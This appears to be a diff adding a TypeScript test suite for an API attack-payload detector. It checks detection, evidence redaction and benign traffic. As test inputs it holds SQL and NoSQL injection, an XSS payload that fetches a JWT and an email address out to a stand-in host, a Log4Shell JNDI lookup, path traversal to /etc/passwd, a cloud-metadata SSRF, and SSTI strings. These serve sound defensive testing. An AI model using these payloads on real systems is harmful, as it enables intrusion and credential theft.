@@ -1,0 +1,110 @@
+import { describe, expect, it } from 'vitest';
+import type { ApiRequest } from '../../contracts/api-event.js';
+import type { PayloadDetector } from './detector.js';
+import { BENIGN_REQUESTS } from './fixtures/benign-requests.js';
+import { DEFAULT_MIN_CONFIDENCE, detectPayloads, MAX_EVIDENCE, PAYLOAD_DETECTORS, redactEvidence } from './index.js';
+
+function req(over: Partial<ApiRequest>): ApiRequest {
+  return { method: 'GET', scheme: 'https', host: 'api.example.com', path: '/v1/items', query: {}, headers: {}, cookies: {}, ...over };
+}
+const JWT = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U';
+
+describe('detectPayloads', () => {
+  it('reports an attack with its record, location and evidence', () => {
+    const [d, ...rest] = detectPayloads(req({ query: { id: ["1' OR '1'='1"] } }));
+    expect(rest).toEqual([]);
+    expect(d).toEqual({
+      detector: 'sqli-tokens',
+      category: 'sqli',
+      severity: 'high',
+      confidence: 0.95,
+      owasp: 'API8:2023',
+      mitre: 'T1190',
+      location: { where: 'query', name: 'id' },
+      evidence: "1' OR '1'='1",
+    });
+  });
+
+  it('finds nothing in an ordinary request', () => {
+    const r = req({
+      path: '/v1/customers/42/orders',
+      query: { q: ["O'Brien's Pub"], sort: ['-created'], page: ['2'] },
+      headers: { 'user-agent': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15', accept: 'application/json', referer: 'https://shop.example.com/cart?ref=mail&utm_source=newsletter' },
+      cookies: { session: '3b241101-e2bb-4255-8caf-4136c566a962' },
+    });
+    expect(detectPayloads(r)).toEqual([]);
+  });
+
+  it.each(BENIGN_REQUESTS)('finds nothing in benign traffic: %s', (_name, r) => {
+    expect(detectPayloads(r)).toEqual([]);
+  });
+
+  it('keeps one detection per detector and location, the most confident', () => {
+    const ds = detectPayloads(req({ query: { id: ['1 OR x=1', "1' OR '1'='1", '5'] } }));
+    expect(ds.filter((d) => d.detector === 'sqli-tokens')).toHaveLength(1);
+    expect(ds[0]!.confidence).toBe(0.95);
+  });
+
+  it('reports each location separately', () => {
+    const ds = detectPayloads(req({ query: { a: ["' OR 1=1--"], b: ["' OR 1=1--"] } }));
+    expect(ds.map((d) => d.location.name)).toEqual(['a', 'b']);
+  });
+
+  it(`drops detections below ${DEFAULT_MIN_CONFIDENCE} unless asked`, () => {
+    const r = req({ headers: { 'user-agent': 'python-requests/2.31.0' } });
+    expect(detectPayloads(r)).toEqual([]);
+    expect(detectPayloads(r, { minConfidence: 0 }).map((d) => [d.detector, d.confidence])).toEqual([['scanner-user-agent', 0.25]]);
+  });
+
+  it('redacts personal data and secrets in the evidence, keeps the attack', () => {
+    const value = `<img src=x onerror="fetch('//x.example/?t=${JWT}&m=john.doe@example.com')">`;
+    const [d] = detectPayloads(req({ query: { bio: [value] } }));
+    expect(d!.detector).toBe('xss-markup');
+    expect(d!.evidence).toContain('onerror=');
+    expect(d!.evidence).toContain('[REDACTED:jwt]');
+    expect(d!.evidence).toContain('[REDACTED:email]');
+    expect(d!.evidence).not.toContain('john.doe');
+    expect(d!.evidence).not.toContain(JWT.slice(0, 40));
+  });
+
+  it('escapes line breaks in evidence so it cannot forge log lines itself', () => {
+    const [d] = detectPayloads(req({ query: { val: ['9306\nSUSPECTED: user Darin'] } }));
+    expect(d!.detector).toBe('logforge-injected-line');
+    expect(d!.evidence).toBe('9306\\nSUSPECTED: user Darin');
+  });
+
+  it(`bounds evidence to ${MAX_EVIDENCE} characters`, () => {
+    expect(redactEvidence('<script>'.padEnd(5000, 'a')).length).toBe(MAX_EVIDENCE);
+    const [d] = detectPayloads(req({ body: { text: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///${'a'.repeat(4000)}">]>`, contentType: 'application/xml', encoding: 'utf8', size: 4100, truncated: false } }));
+    expect(d!.evidence.length).toBeLessThanOrEqual(MAX_EVIDENCE);
+  });
+
+  it('skips a detector that throws and runs the others', () => {
+    const broken: PayloadDetector = { ...PAYLOAD_DETECTORS[0]!, id: 'test-broken', detect: () => { throw new Error('bug'); } };
+    const ds = detectPayloads(req({ query: { id: ["1' OR '1'='1"] } }), { detectors: [broken, ...PAYLOAD_DETECTORS] });
+    expect(ds.map((d) => d.detector)).toEqual(['sqli-tokens']);
+  });
+
+  it('finds attacks in every kind of location', () => {
+    const json = JSON.stringify({ user: { password: { $ne: null } }, note: '{{7*7}}' });
+    const r = req({
+      method: 'POST',
+      path: '/files/..%2F..%2Fetc%2Fpasswd',
+      query: { url: ['http://169.254.169.254/latest/meta-data/'] },
+      headers: { 'user-agent': '${jndi:ldap://x.oastify.com/a}', cookie: 'prefs=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA==' },
+      body: { text: json, contentType: 'application/json', encoding: 'utf8', size: json.length, truncated: false },
+    });
+    const found = detectPayloads(r).map((d) => `${d.detector}@${d.location.where}:${d.location.name}`);
+    expect(found).toEqual(
+      expect.arrayContaining([
+        'traversal-dot-segments@path:1',
+        'ssrf-cloud-metadata@query:url',
+        'cookie-serialized-object@cookie:prefs',
+        'log4shell-jndi-lookup@header:user-agent',
+        'scanner-oast-domain@header:user-agent',
+        'nosqli-operators@body:/user/password/$ne',
+        'ssti-expression@body:/note',
+      ]),
+    );
+  });
+});
